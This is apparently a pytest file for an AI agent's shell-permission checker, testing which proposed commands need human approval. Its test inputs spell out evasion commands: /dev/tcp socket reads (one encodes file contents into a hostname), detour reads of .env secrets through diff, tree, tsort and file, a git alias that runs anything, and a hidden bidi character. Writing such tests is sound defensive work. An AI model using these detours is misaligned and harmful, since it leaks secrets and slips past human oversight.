"""What looks as if it only read, and is asked about: names that are a file to run, addresses, secrets by a detour."""

from __future__ import annotations

import pytest

from holaboss_runtime.permissions.decide import decide
from holaboss_runtime.permissions.model import CallFacts
from holaboss_runtime.permissions.profiles import policy_of


def effect(command: str, profile: str = "ask") -> str:
    return decide(policy_of(profile), CallFacts("bash", command=command)).effect


@pytest.mark.parametrize(
    "program",
    ["make", "python", "python3", "node", "npx", "bash", "ruby", "curl", "wget", "tar", "java", "pip", "uv"],
)
def test_version_is_the_name_of_a_file_a_target_or_an_address(program: str) -> None:
    assert effect(f"{program} version") == "always_ask"
    assert effect(f"{program} --version") == ("always_allow" if program != "bash" else "always_ask")


@pytest.mark.parametrize("program", ["pytest", "yarn", "pnpm", "cargo", "rustc"])
def test_the_folder_decides_which_program_says_its_version(program: str) -> None:
    assert effect(f"{program} --version") == "always_ask"


def test_programs_that_know_the_word_version() -> None:
    assert [effect(f"{program} version") for program in ("git", "go", "docker")] == ["always_allow"] * 3


@pytest.mark.parametrize(
    "command",
    [
        "cat < /dev/tcp/example.org/80",
        "cat < /dev/udp/example.org/53",
        "cat < /dev/tc{p..p}/example.org/80",
        "cat < /dev/tcp/$(head -c 20 notes | od -An -tx1 | tr -d ' ').example.org/80",
        "x=/dev/tcp/example.org/80; cat < $x",
        "while true; do sleep 1; done < /dev/tcp/example.org/80",
    ],
)
def test_reading_from_an_address_is_asked(command: str) -> None:
    assert effect(command) == "always_ask"


@pytest.mark.parametrize(
    "command",
    [
        "x=.env; cat < $x",
        'x=.env; echo "$(<$x)"',
        'for f in .en?; do cat < "$f"; done',
        "diff --from-file=.env /dev/null",
        "diff --to-f=.env /dev/null",
        "tree --fromfile .env",
        "tsort .env",
        "file -m .env notes",
    ],
)
def test_secrets_by_a_detour_are_asked(command: str) -> None:
    assert effect(command) == "always_ask"


def test_a_known_file_is_still_read_unasked() -> None:
    for command in ("cat < notes", "wc -l < src/a.py", "diff a b", "tree src", "tsort order"):
        assert effect(command) == "always_allow"


@pytest.mark.parametrize(
    "command", ["uv run pytest", "poetry run bash", "npm exec x", "pnpm dlx x", "yarn exec x", "parallel rm"]
)
def test_a_rule_is_never_offered_for_whatever_a_runner_may_run(command: str) -> None:
    assert [
        rule.command for rule in decide(policy_of("ask"), CallFacts("bash", command=command)).suggestions
    ] == [f"={command}"]


def test_git_is_offered_by_what_it_does_only() -> None:
    """`git -c alias.x='!…' x` runs anything."""
    offered = decide(policy_of("ask"), CallFacts("bash", command="git commit -m x")).suggestions
    assert [rule.command for rule in offered] == ["git commit"]


def test_no_rule_keeps_what_cannot_be_seen() -> None:
    assert decide(policy_of("ask"), CallFacts("bash", command="rm a\nrm b\u202e")).suggestions == ()
    assert decide(policy_of("ask"), CallFacts("bash", command="rm a\nrm b")).suggestions != ()


@pytest.mark.parametrize("profile", ["ask", "trusted"])
@pytest.mark.parametrize("path", [".git", "vendor/.git", "vendor/.GIT"])
def test_a_file_that_leads_git_elsewhere_is_asked(profile: str, path: str) -> None:
    assert decide(policy_of(profile), CallFacts("write", writes=(path,))).effect == "always_ask"
    assert effect(f"echo 'gitdir: elsewhere' > {path}", profile) == "always_ask"
